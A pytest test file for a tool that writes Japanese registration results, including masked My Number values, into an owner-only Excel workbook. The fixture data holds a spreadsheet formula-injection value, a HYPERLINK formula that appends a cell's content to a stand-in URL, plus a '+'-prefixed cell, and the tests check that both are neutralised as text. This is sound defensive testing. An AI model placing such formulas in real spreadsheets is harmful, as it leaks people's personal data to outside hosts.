"""The result workbook: every source row with its 結果, reference and 理由; owner-only."""

from __future__ import annotations

import stat
from datetime import datetime
from pathlib import Path

import pytest
from openpyxl import load_workbook

from flows.declared import (
    NOT_PROCESSED,
    ResultStatus,
    RowResult,
    SourceTable,
    read_source,
    write_results,
)
from tests.flows.declared._helpers import my_number, spec, write_xlsx, wrong_check_digit

NUMBER = my_number("01234567890")
SPEC = spec({"氏名": "text", "個人番号": "my_number", "生年月日": "wareki_date"})


def _table(tmp_path: Path) -> SourceTable:
    path = write_xlsx(
        tmp_path / "data.xlsx",
        [
            ["受付番号", "氏名", "個人番号", "生年月日", "メモ"],
            ["R1", '=HYPERLINK("http://x/?"&C2,"詳細")', int(NUMBER), "昭和60年4月1日", "x"],
            ["R2", "佐藤 花子", NUMBER, datetime(1990, 1, 2), "y"],
            ["R3", "+81 鈴木", wrong_check_digit("12345678901"), "平成2年1月2日", "z"],
            ["R4", "高橋", NUMBER, "令和2年2月30日", None],
            ["R5", "伊藤", NUMBER, "R1.5.1", None],
            ["R2", "重複", NUMBER, "R1.5.1", None],
        ],
    )
    return read_source(SPEC, path)


def test_the_workbook_lists_every_row_with_its_result(tmp_path: Path) -> None:
    table = _table(tmp_path)
    results = {
        "R1": RowResult(ResultStatus.REGISTERED, "00012345", None),
        "R2": RowResult("登録済みを確認", "00012346"),  # type: ignore[arg-type]
        "R5": RowResult(
            ResultStatus.NEEDS_REVIEW, None, f"画面のエラー: 個人番号 {NUMBER} は登録済み"
        ),
    }
    out = write_results(
        tmp_path / "out" / "結果.xlsx", table, SPEC, results, reference_header="被保険者番号"
    )
    assert out == tmp_path / "out" / "結果.xlsx"
    sheet = load_workbook(out).active
    assert sheet is not None
    rows = [[cell.value for cell in row] for row in sheet.iter_rows()]
    assert rows[0] == [
        "行",
        "受付番号",
        "氏名",
        "個人番号",
        "生年月日",
        "結果",
        "被保険者番号",
        "理由",
    ]
    assert rows[1][:4] == [2, "R1", '\'=HYPERLINK("http://x/?"&C2,"詳細")', NUMBER]
    assert rows[1][4] == datetime(1985, 4, 1)
    assert rows[1][5:] == ["登録済み", "00012345", None]
    assert rows[2][5:] == ["登録済みを確認", "00012346", None]
    # A bad cell shows as it was read (text); the row is 要確認 with its error.
    assert rows[3][2:] == [
        "'+81 鈴木",
        wrong_check_digit("12345678901"),
        datetime(1990, 1, 2),
        "要確認",
        None,
        "4行目: 個人番号のチェックデジットが正しくありません",
    ]
    bad_date = "5行目: 生年月日の日付が正しくありません（存在しない日付です）"
    assert rows[4][4:] == ["令和2年2月30日", "要確認", None, bad_date]
    # Reasons are masked: a 12-digit number never reaches the workbook from a reason.
    assert rows[5][5:] == ["要確認", None, "画面のエラー: 個人番号 ************ は登録済み"]
    # The repeated key is 要確認 even though R2 has a result.
    assert rows[6][5:] == [
        "要確認",
        None,
        "7行目: 受付番号が3行目と同じです（同じ行が2回あります）",
    ]
    # Outside text is text, never a formula.
    assert sheet["C2"].data_type == "s"
    assert sheet["D2"].data_type == "s"  # the 個人番号 keeps its leading zero as text
    assert sheet["E2"].number_format == "yyyy/mm/dd"


def test_a_valid_row_without_a_result_is_not_processed(tmp_path: Path) -> None:
    table = _table(tmp_path)
    out = write_results(tmp_path / "結果.xlsx", table, SPEC, {})
    sheet = load_workbook(out).active
    assert sheet is not None
    assert sheet.cell(row=1, column=7).value == "参照番号"
    assert [sheet.cell(row=2, column=col).value for col in (6, 8)] == ["要確認", NOT_PROCESSED]


def test_the_file_is_owner_only_and_replaces_an_earlier_one(tmp_path: Path) -> None:
    table = _table(tmp_path)
    target = tmp_path / "new" / "結果.xlsx"
    target.parent.mkdir(mode=0o755)
    target.write_bytes(b"old")
    target.chmod(0o644)
    write_results(target, table, SPEC, {})
    assert stat.S_IMODE(target.stat().st_mode) == 0o600
    assert target.read_bytes()[:2] == b"PK"
    assert list(target.parent.iterdir()) == [target]  # no partial file left behind
    fresh = tmp_path / "a" / "b" / "結果.xlsx"
    write_results(fresh, table, SPEC, {})
    assert stat.S_IMODE(fresh.stat().st_mode) == 0o600
    assert stat.S_IMODE(fresh.parent.stat().st_mode) == 0o700


def test_a_source_column_named_like_a_result_column_keeps_its_data(tmp_path: Path) -> None:
    described = spec({"結果": "text"})
    path = write_xlsx(tmp_path / "d.xlsx", [["受付番号", "結果"], ["R1", "前回OK"]])
    out = write_results(tmp_path / "o.xlsx", read_source(described, path), described, {})
    sheet = load_workbook(out).active
    assert sheet is not None
    assert [cell.value for cell in sheet[1]] == [
        "行",
        "受付番号",
        "結果（元データ）",
        "結果",
        "参照番号",
        "理由",
    ]
    assert [cell.value for cell in sheet[2]][:4] == [2, "R1", "前回OK", "要確認"]


def test_a_status_outside_the_three_is_refused() -> None:
    with pytest.raises(ValueError, match="status must be one of 登録済み・登録済みを確認・要確認"):
        RowResult("完了")  # type: ignore[arg-type]
